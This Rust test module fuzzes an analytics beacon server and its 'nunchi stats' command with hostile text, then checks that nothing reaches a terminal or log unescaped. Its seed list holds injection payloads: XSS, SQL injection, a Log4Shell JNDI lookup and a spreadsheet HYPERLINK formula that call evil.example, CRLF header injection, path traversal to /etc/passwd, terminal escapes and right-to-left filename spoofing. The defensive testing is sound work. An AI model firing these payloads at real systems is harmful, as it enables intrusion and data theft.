//! Text that means to be more than text, through every text of a beacon: controls, escapes, right-to-left overrides,
//! stacked marks, markup, formulas. Taken or refused, and neither a terminal nor a log ever gets to see it bare.

use std::process::Command;

use anyhow::{Context, Result};
use beacon::item::{Fact, PageKind, Product, View};
use beacon::{Body, Item, Millis};

use super::Setting;
use crate::beacons::{beacon, now};
use crate::random::Random;
use crate::server::Server;
use crate::volley::volley;

#[derive(Debug, Default)]
pub(super) struct Texts {
    pub(super) sent: usize,
    pub(super) http5xx: usize,
    /// Answered by something else than 2xx and 4xx, or shown bare.
    pub(super) wrong: usize,
}

pub(super) fn send(setting: &Setting, server: &Server, random: &mut Random) -> Result<Texts> {
    let mut texts = Texts::default();
    let all = corpus(random);
    let frames: Vec<_> = all.iter().map(|text| frame(text, random.bytes())).collect();
    let answers = volley(server.port, &frames)?;
    texts.sent = frames.len();
    texts.http5xx = answers.range(500..).map(|(_, times)| times).sum();
    let known: usize = answers.range(200..300).chain(answers.range(400..500)).map(|it| it.1).sum();
    texts.wrong = frames.len() - known - texts.http5xx;
    for question in ["overview", "funnel", "pages", "signals"] {
        let answer = server.get(&format!("/api/stats/{question}?site=demo"))?;
        texts.wrong += usize::from(answer.status != 200 || answer.body.iter().any(|&b| b < 0x20));
        texts.wrong += bare(&printed(setting, server, question)?);
    }
    Ok(texts)
}

/// What `nunchi stats` shows in a terminal.
fn printed(setting: &Setting, server: &Server, question: &str) -> Result<String> {
    let mut command = Command::new(&setting.nunchi);
    command.args(["stats", question, "--site", "demo", "--last", "1d", "--fold-below", "0"]);
    command.arg("--data").arg(&server.data);
    let output =
        command.env("NUNCHI_LOG", "error").output().context("cannot start nunchi stats")?;
    anyhow::ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Ok(String::from_utf8(output.stdout)?)
}

/// Characters that a terminal would obey.
fn bare(text: &str) -> usize {
    let obeyed = |c: &char| c.is_control() && *c != '\n' || BIDI.contains(c);
    text.chars().filter(obeyed).count()
}

fn frame(text: &str, run: [u8; 16]) -> Vec<u8> {
    let clip = |most| beacon::limits::clip(text, most);
    let mut hostile = beacon((run, 1), now());
    let product = Product {
        id: clip(beacon::limits::PRODUCT_ID_BYTES_MAX),
        name: clip(beacon::limits::NAME_BYTES_MAX),
        category: clip(beacon::limits::NAME_BYTES_MAX),
        price: None,
    };
    let path = beacon::limits::clip(&format!("/{text}"), beacon::limits::PATH_BYTES_MAX);
    let bodies = [
        Body::Viewed(View { path, page: PageKind::Product }),
        Body::Stated(Fact::ProductSeen(product)),
    ];
    hostile.items = bodies.map(|body| Item { at: Millis(1_000), body }).into();
    beacon::frame::encode(&hostile)
}

/// Each seed alone, within words, and in pairs.
fn corpus(random: &mut Random) -> Vec<String> {
    let mut all: Vec<String> = SEEDS.iter().map(ToString::to_string).collect();
    all.extend((0..32).filter_map(char::from_u32).map(|c| format!("mug{c}jar")));
    all.extend(BIDI.iter().map(|c| format!("mug{c}gpj.exe")));
    while all.len() < 500 {
        let (a, b) = (*random.pick(SEEDS), *random.pick(SEEDS));
        all.push(format!("{a}{}{b}", char::from(b'a' + random.bytes::<1>()[0] % 26)));
    }
    all
}

const BIDI: &[char] = &[
    '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}',
    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
];

const SEEDS: &[&str] = &[
    "",
    "\0",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "line\r\nX-Injected: yes",
    "line\n{\"level\":\"error\"}",
    "\u{2028}\u{2029}",
    "\u{85}",
    "\u{feff}",
    "\u{202e}gpj.exe",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "\u{10ffff}\u{fffe}\u{ffff}",
    "\u{d7ff}\u{e000}",
    "\u{ff1c}script\u{ff1e}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "'; DROP TABLE site; --",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../../../etc/passwd",
    "\u{ac00}\u{11a8}\u{1100}\u{1161}",
    "İıſK",
    "\u{200b}\u{200c}\u{200d}\u{2060}",
    "\u{e0041}\u{e0042}",
    "NaN",
    "null",
    "__proto__",
    "constructor",
    "a\u{0}b",
    "\\u0000",
    "\u{7f}",
];
